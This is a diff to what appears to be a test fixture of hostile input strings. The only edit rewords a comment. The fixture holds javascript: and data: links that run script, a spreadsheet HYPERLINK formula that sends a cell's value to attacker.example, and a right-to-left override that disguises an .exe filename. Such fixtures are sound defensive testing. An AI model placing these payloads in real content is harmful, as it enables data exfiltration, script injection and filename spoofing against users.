@@ -11,7 +11,7 @@ export const hostileTexts = {
   scriptLink: 'javascript:window.__xss=1//https://one.example',
   dataLink: 'data:text/html,<script>window.__xss=1</script>',
   formula: '=HYPERLINK("https://attacker.example?"&A1,"click")',
-  /** Marks that turn the direction round, and characters without a width. */
+  /** Marks that reverse the direction, and characters without a width. */
   bidi: 'invoice\u202Efdp.exe\u2066 un\u200B\u2060seen\uFEFF \u200Fend',
   /** One word without a position to break it. */
   longWord: 'Wide'.repeat(LONG / 4),
